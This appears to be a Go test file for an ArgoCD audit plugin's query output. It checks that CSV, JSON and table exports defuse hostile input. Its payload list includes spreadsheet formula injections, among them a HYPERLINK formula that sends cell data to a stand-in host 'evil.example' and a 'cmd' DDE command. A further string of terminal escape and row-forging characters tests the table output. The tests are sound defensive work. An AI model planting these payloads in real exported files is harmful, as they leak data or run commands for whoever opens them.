package query_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/argocd-seal/argocd-seal-plugin/audit"
	"github.com/argocd-seal/argocd-seal-plugin/audit/query"
	"github.com/argocd-seal/argocd-seal-plugin/internal/fault"
)

// formulas are what spreadsheets would compute, look up or run.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "|calc", "%0A=1", "\t=1", "\r=1", "  =1", "＝1", "\u00a0=1",
}

func spreadsheet(t *testing.T, text string) [][]string {
	t.Helper()
	cells, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("%v: %s", err, text)
	}
	return cells
}

// column returns what stands below a heading.
func column(t *testing.T, cells [][]string, heading string) []string {
	t.Helper()
	for i, name := range cells[0] {
		if name == heading {
			var column []string
			for _, row := range cells[1:] {
				column = append(column, row[i])
			}
			return column
		}
	}
	t.Fatalf("there is no column %s in %v", heading, cells[0])
	return nil
}

// runs tells whether a spreadsheet would take a cell for more than a text.
func runs(cell string) bool {
	return strings.ContainsAny(strings.TrimLeft(cell, " \t\r\n\u00a0")[:1], "=+-@|%") || strings.HasPrefix(cell, "＝")
}

func TestSpreadsheetsRunNothing(t *testing.T) {
	for _, formula := range formulas {
		event := audit.Event{
			Type: audit.Render, Outcome: formula, App: formula, Author: formula, Subject: formula, Path: formula, Message: formula,
			Codes: []string{formula}, References: []audit.Reference{{Mount: formula, Path: formula}}, Injections: []audit.Injection{{Kind: formula}},
			Verdict: &audit.Verdict{Decision: formula, Denied: []string{formula}, Waived: []audit.Waiver{{Rule: formula}}},
		}
		for _, by := range []string{"", "app", "secret"} {
			out, _ := ask(t, query.Question{}, query.Options{Format: query.CSV, By: by}, written(t, event))
			if strings.Count(out, "\n") != 2 {
				t.Errorf("%q breaks its line: %q", formula, out)
			}
			for i, row := range spreadsheet(t, out) {
				for _, cell := range row {
					if cell != "" && runs(cell) {
						t.Errorf("row %d by %q has the cell %q", i, by, cell)
					}
				}
			}
		}
	}
}

func TestCSVHasWhatTheEventHas(t *testing.T) {
	events := various()
	events[1].Subject = `Say "no", twice; then` + "\n=1"
	events[5].Injections = []audit.Injection{{Object: "Secret shop/db", Kind: "sealed-secret"}}
	out, _ := ask(t, query.Question{Apps: []string{"shop-web"}}, query.Options{Format: query.CSV}, written(t, events...))
	cells := spreadsheet(t, out)
	for heading, want := range map[string]string{
		"time":       "2026-11-26T10:01:00Z",
		"subject":    `Say "no", twice; then\n=1`,
		"decision":   "pass",
		"secrets":    "kv/payments/db#password@6",
		"change":     "first",
		"id":         "first",
		"seq":        "2",
		"injections": "",
	} {
		if got := column(t, cells, heading)[0]; got != want {
			t.Errorf("%s is %q, want %q", heading, got, want)
		}
	}
	if got := strings.Join(column(t, cells, "denied"), ","); got != ",,image-digest pod-root,,,," {
		t.Errorf("denied is %q", got)
	}
	if got := column(t, cells, "waived")[4]; got != "pod-root by shop until 2026-12-31: old image" {
		t.Errorf("waived is %q", got)
	}
	if got := column(t, cells, "injections")[4]; got != "sealed-secret Secret shop/db" {
		t.Errorf("injections is %q", got)
	}
	// A question without an answer is a table all the same.
	out, _ = ask(t, query.Question{Apps: []string{"none"}}, query.Options{Format: query.CSV}, written(t, events...))
	if cells := spreadsheet(t, out); len(cells) != 1 || cells[0][0] != "time" {
		t.Errorf("got %q", out)
	}
}

// What tenants write neither drives a terminal nor forges a row.
func TestTerminalsAreNotDriven(t *testing.T) {
	const evil = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202eabc\r\nforged\u2028row\x00\x7f"
	event := audit.Event{
		Type: audit.Render, Outcome: evil, App: evil, Author: evil, Subject: evil, Environment: evil, Revision: evil, Message: evil,
		References: []audit.Reference{{Mount: evil, Path: evil}}, Verdict: &audit.Verdict{Decision: "deny" + evil, Denied: []string{evil}},
	}
	trail := written(t, event, audit.Event{Type: "\x1b[31mparty", Outcome: "OK"})
	for _, options := range []query.Options{
		{Format: query.Table}, {Format: query.Table, Width: 80, Color: true}, {Format: query.Table, By: "app"}, {Format: query.Table, By: "secret"},
		{Format: query.JSON}, {Format: query.JSON, By: "author"}, {Format: query.CSV}, {Format: query.CSV, By: "type"},
	} {
		out, stats := ask(t, query.Question{}, options, trail)
		if stats.Events != 2 {
			t.Fatalf("%+v", stats)
		}
		for _, bad := range []string{"\x1b[2J", "\x1b]", "\x07", "\u009b", "\x9b", "\u202e", "\u2028", "\x00", "\x7f", "\nforged"} {
			if strings.Contains(strings.ReplaceAll(out, "\r\n", "\n"), bad) {
				t.Errorf("%+v: the output holds %q: %q", options, bad, out)
			}
		}
		if !options.Color && strings.Contains(out, "\x1b") {
			t.Errorf("%+v: the output holds an escape: %q", options, out)
		}
	}
}

// Lines come out as they went in, so that answers can be asked again and proved.
func TestJSONIsTheLineOfTheTrail(t *testing.T) {
	trail := strings.Replace(written(t, various()...), `"id":"commit"`, `"id":"commit","new":{"field":[1,2.50]},"subject":"<b> & ü"`, 1)
	got, _ := ask(t, query.Question{Changed: true}, query.Options{Format: query.JSON}, trail)
	again, _ := ask(t, query.Question{}, query.Options{Format: query.JSON}, got)
	if got != again || !strings.Contains(got, `"new":{"field":[1,2.50]},"subject":"<b> & ü"`) {
		t.Errorf("got %s\nand then %s", got, again)
	}
	for line := range strings.Lines(got) {
		if !strings.Contains(trail, line) {
			t.Errorf("the trail has no line %s", line)
		}
	}
}

func TestGroupsAreCounted(t *testing.T) {
	trail := written(t, various()...)
	for by, want := range map[string]string{
		"app": "shop-web:7 shop-api:2", "project": "shop:8", "environment": "production:7 staging:1",
		"repo": "https://git.example.com/shop/deploy.git:7 ssh://git@git.example.com:2222/shop/other:1", "path": "apps/web:7 apps/website:1",
		"revision": "abc1230000:2 def4560001:2 def4560002:2 0123abc:1 def4560000:1", "outcome": "OK:8 E_POLICY:1 E_VAULT:1",
		"author": "Grace Hopper <grace@example.com>:3 Ada Lovelace <ada@example.com>:2", "decision": "pass:2 deny:1 waived:1 warn:1",
		"rule": "pod-root:2 workload-probes:2 image-digest:1", "secret": "kv/payments/db@6:3 kv/payments/db@8:3 kv/payments/db@7:1",
		"type": "render:8 refresh:1 start:1",
	} {
		out, _ := ask(t, query.Question{}, query.Options{Format: query.CSV, By: by}, trail)
		var got []string
		for _, row := range spreadsheet(t, out)[1:] {
			got = append(got, row[0]+":"+row[1])
		}
		if strings.Join(got, " ") != want {
			t.Errorf("by %s: got %s, want %s", by, got, want)
		}
	}
	if groups := query.Groups(); len(groups) != 12 {
		t.Errorf("there are %v: is one not tested here?", groups)
	}
}

func TestTheNewestAreShownFirst(t *testing.T) {
	trail := written(t, various()...)
	for _, test := range []struct {
		options query.Options
		want    string
		said    string
	}{
		{query.Options{Limit: 2}, "first same", "the first 2 events; --limit leaves out others"},
		{query.Options{Limit: 2, Reverse: true}, "vault settings", "the last 2 events; --limit leaves out others"},
		{query.Options{Reverse: true}, "vault settings both secrets commit denied same first", "8 of 10 events"},
		{query.Options{Limit: 8}, "first same denied commit secrets both settings vault", "8 of 10 events"},
	} {
		q := query.Question{Types: []string{"render"}}
		if got := ids(t, q, test.options, trail); got != test.want {
			t.Errorf("%+v: got %s, want %s", test.options, got, test.want)
		}
		if out, _ := ask(t, q, test.options, trail); !strings.HasSuffix(out, "\n"+test.said+"\n") {
			t.Errorf("%+v: the table does not say %q: %s", test.options, test.said, out)
		}
	}
}

func TestTablesFitTheTerminal(t *testing.T) {
	for _, width := range []int{40, 80, 120, 200} {
		out, _ := ask(t, query.Question{Decisions: []string{"deny"}}, query.Options{Width: width}, "", sample)
		if !strings.Contains(strings.Join(strings.Fields(out), " "), "Run the thumbnailer as root to read old files") {
			t.Errorf("a table of %d characters lacks a subject:\n%s", width, out)
		}
		for line := range strings.Lines(out) {
			// The columns before the last are as wide as their texts.
			if length := len([]rune(line)) - 1; length > max(width, 125) {
				t.Errorf("a table of %d characters has a line of %d: %s", width, length, line)
			}
		}
	}
}

func TestOptionsThatMeanNothingAreRefused(t *testing.T) {
	for want, options := range map[string]query.Options{
		"--output": {Format: "xml"}, "--by": {Format: query.Table, By: "\x1bday"}, "--limit": {Format: query.Table, Limit: -1},
	} {
		filter, err := query.Compile(query.Question{}, now)
		if err != nil {
			t.Fatal(err)
		}
		_, err = query.Answer(t.Context(), &strings.Builder{}, nil, filter, options)
		if fault.CodeOf(err) != fault.Parameter || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "\x1b") {
			t.Errorf("%+v: got %v", options, err)
		}
	}
}
